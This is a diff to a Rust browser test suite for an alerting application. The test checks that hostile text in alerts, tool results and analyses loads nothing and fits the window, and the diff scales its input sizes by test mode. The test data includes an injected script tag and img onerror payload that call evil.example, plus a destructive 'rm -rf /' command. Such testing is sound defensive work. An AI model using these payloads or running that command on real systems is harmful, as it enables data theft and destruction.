@@ -1,4 +1,6 @@
-//! Texts of models, tools, alerts and producers that try to be more than text, in a real browser.
+//! Texts of models, tools, alerts and producers that try to be more than text, in a real browser. The suite opens each
+//! page in the narrow window, with a line of 100 kB and lists of 1,000 levels; the proof opens it in a wide one as
+//! well, with a line of 1 MB and lists of 10,000 levels.
 
 use serde_json::json;
 use tarsy::bus::{NewAlert, Priority, SESSION_ID};
@@ -8,6 +10,7 @@ use uuid::Uuid;
 use super::driver::Browser;
 use super::states::COPY;
 use super::{OVERFLOW, web_of};
+use crate::support::figures::is_proof;
 use crate::support::system::{Setup, TestSystem};
 
 /// What every text from outside says.
@@ -31,10 +34,11 @@ fn transcript() -> String {
     let line = "<script>fetch('https://evil.example/l')</script> <img src=https://evil.example/m.png onerror=alert(4)> is what I see.\n";
     let text = json!(line.repeat(60));
     let name = json!(TEXT);
+    let depth = if is_proof() { 10_000 } else { 1_000 };
     let analysis = json!(format!(
         "Cause: {TEXT}\nEvidence: {TEXT}\nDo next: `rm -rf / {TEXT}` {TEXT}\n\n# {TEXT}\n\n{}x\n\n{}\n\n| a |\n|---|\n| {TEXT} |\n\n```\n{TEXT}\n```\n",
-        "- ".repeat(10_000),
-        "> ".repeat(2_000),
+        "- ".repeat(depth),
+        "> ".repeat(depth / 5),
     ));
     format!(
         "name: hostile\nmatch: KubePodOOMKilled\nanswers:\n  - chunks:\n      - gate: has-begun\n      - text: {text}\n      - thinking: {name}\n      \
@@ -58,13 +62,14 @@ async fn hostile() -> (TestSystem, SessionId) {
     (system, id)
 }
 
-/// Everything else that is stored says it too: results of tools with a line of 1 MB, names, reasons, a dead letter.
+/// Everything else that is stored says it too: results of tools with a long line, names, reasons, a dead letter.
 fn spread(system: &TestSystem, id: SessionId) -> SessionId {
     let (dead, question) = (SessionId(Uuid::now_v7()), SessionId(Uuid::now_v7()));
     let text = format!("$t${TEXT}$t$");
+    let long = if is_proof() { 1_000_000 } else { 100_000 };
     system.database.execute(&format!(
         "{COPY}
-         UPDATE timeline_events SET content = {text} || repeat('x', 1000000) WHERE session_id = '{id}' AND event_type = 'tool_result';
+         UPDATE timeline_events SET content = {text} || repeat('x', {long}) WHERE session_id = '{id}' AND event_type = 'tool_result';
          UPDATE timeline_events SET content = {text} WHERE session_id = '{id}' AND content = '';
          UPDATE timeline_events SET metadata = jsonb_set(metadata, '{{tool_name}}', to_jsonb({text}::text))
            WHERE session_id = '{id}' AND metadata ? 'tool_name';
@@ -113,6 +118,7 @@ async fn hostile_texts_load_nothing_report_nothing_and_fit_the_window() {
     let result = system.database.number(&format!(
         "SELECT max(session_seq)::bigint FROM timeline_events WHERE session_id = '{id}' AND event_type = 'tool_result'"
     ));
+    let widths: &[u32] = if is_proof() { &[390, 1280] } else { &[390] };
     let search: String = url::form_urlencoded::byte_serialize(&TEXT.as_bytes()[..190]).collect();
     for path in [
         "/?since=".to_owned(),
@@ -127,8 +133,8 @@ async fn hostile_texts_load_nothing_report_nothing_and_fit_the_window() {
         format!("/sessions/{dead}"),
         format!("/s/{search}"),
     ] {
-        for width in [390, 1280] {
-            browser.looks(width, "light").await;
+        for width in widths {
+            browser.looks(*width, "light").await;
             browser.open(&format!("{base}{path}")).await;
             browser
                 .eval("document.querySelectorAll('details').forEach((details) => { details.open = true; }); 0")
